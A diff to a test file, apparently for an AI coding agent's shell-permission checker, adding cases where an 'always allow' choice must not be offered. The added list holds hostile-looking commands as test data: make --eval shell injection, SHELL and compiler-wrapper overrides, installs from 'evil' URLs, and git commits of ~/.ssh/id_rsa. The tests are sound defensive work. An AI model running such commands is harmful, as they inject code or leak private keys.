@@ -436,7 +436,10 @@ ALWAYS = {
     "make test": "`make test …`",
     "cargo test --all": "`cargo test …`",
     "ruff check . && ruff format . && mypy": "`ruff check …`, `ruff format …` and `mypy …`",
-    'git add -A && git commit -m "$(cat message.txt)"': "`git add …` and `git commit …`",
+    "git add -A && git commit -am 'a b'": "`git add …` and `git commit …`",
+    "go test -run 'TestA|TestB' -count=1 ./...": "`go test …`",
+    "pip install -q -r requirements.txt -e '.[dev]'": "`pip install …`",
+    "make test -j4 -k": "`make test …`",
     "for f in a b; do eslint $f; done": "`eslint …`",
 }
 
@@ -451,6 +454,51 @@ def test_the_question_says_what_always_stands_for(command: str, stands_for: str)
 
 
 NEVER_ALWAYS = r"""
+make test --eval='$(shell touch /tmp/x)'
+make test -C /tmp/evil
+make test -C..
+make test -f /tmp/evil.mk
+make test SHELL=/tmp/x
+make -j test
+npm test --prefix /tmp/evil
+npm test --script-shell=/tmp/x
+npm test -- --config=/tmp/x
+npm install evil
+npm install /tmp/evil
+npm install https://example.com/evil.tgz
+pytest -p evil --rootdir=/tmp/e
+pytest --rootdir=/tmp/e
+pytest -c /tmp/x
+pytest -k5 --rootdir=/tmp/e
+pytest /tmp/e
+pytest ../e
+pytest far/test_x.py
+pytest far/test_x.py::test_a
+pytest a/../far/x
+pytest @/tmp/words
+pytest *
+pytest -k $(cat x)
+cd /tmp && pytest
+cd far && pytest
+cd .. && pytest
+pytest; cd /tmp
+cargo test --config build.rustc-wrapper=/tmp/x
+cargo test --manifest-path /tmp/x/Cargo.toml
+git commit -F ~/.ssh/id_rsa
+git commit -F message.txt
+git commit -m "$(cat message.txt)"
+git commit -m x ~/.ssh/id_rsa
+git add .git/config
+pip install --target / x
+pip install x
+pip install -r /tmp/x.txt
+pip install -e git+https://example.com/evil
+go test -exec 'sh -c ...' ./...
+go test -toolexec=x ./...
+go build -o /tmp/x .
+mvn test exec::java
+javac @far/x
+prettier --write /tmp/x
 bash x.sh
 sh -c 'pytest'
 /bin/sh x
@@ -567,6 +615,7 @@ uv pip install x
 def test_always_is_not_offered_where_it_would_stand_for_anything(command: str, project: Path) -> None:
     (project / "shell").symlink_to("/bin/sh")
     (project / "pytest").symlink_to("/bin/sh")
+    (project / "far").symlink_to("/tmp")
     verdict = judge("ask", BashTool(), command=command)
     assert isinstance(verdict, Ask)
     assert verdict.choices == ("no", "yes", "edit")
@@ -576,9 +625,14 @@ def test_always_is_not_offered_where_it_would_stand_for_anything(command: str, p
 def test_always_covers_its_prefix_with_whatever_only_reads_and_nothing_else(project: Path) -> None:
     permissions = Permissions("ask", Workspace.at(Path.cwd()))
     tool = BashTool()
+    (project / "far").symlink_to("/tmp")
+    (project / "tests").mkdir()
+    (project / "tests/test_x.py").touch()
     assert permissions.settle(tool, {"command": "pytest -q && git commit -m x"}, "always") == Allow()
     for command in (
         "pytest tests",
+        "pytest -xvq -k 'a or b' --tb=short --maxfail 1 tests/test_x.py::test_a[b-1] tests/test_*.py",
+        "git commit -a -m 'say $(nothing) of it'",
         "cd tests && pytest -x 2>&1 | tail -3",
         "git commit --amend",
         "ls; git commit -m y; pytest",
@@ -605,6 +659,20 @@ def test_always_covers_its_prefix_with_whatever_only_reads_and_nothing_else(proj
     assert isinstance(permissions.judge(tool, {"command": "pytest", "background": True}), Ask)
     permissions.mode = "plan"
     assert isinstance(permissions.judge(tool, {"command": "pytest"}), Refuse)
+
+
+def test_always_covers_nothing_in_another_directory(project: Path) -> None:
+    workspace, make = Workspace.at(Path.cwd()), {"command": "make test"}
+    permissions, tool = Permissions("ask", workspace), BashTool()
+    assert permissions.settle(tool, make, "always") == Allow()
+    (project / "sub").mkdir()
+    workspace.cwd = project / "sub"
+    assert permissions.judge(tool, make) == Allow()
+    workspace.cwd = project.parent
+    verdict = permissions.judge(tool, make)
+    assert isinstance(verdict, Ask)
+    assert "always" not in verdict.choices
+    assert isinstance(permissions.judge(tool, {"command": f"cd {project} && make test"}), Ask)  # where that cd fails
 
 
 def test_a_program_named_by_its_path_is_that_one_program(project: Path) -> None:
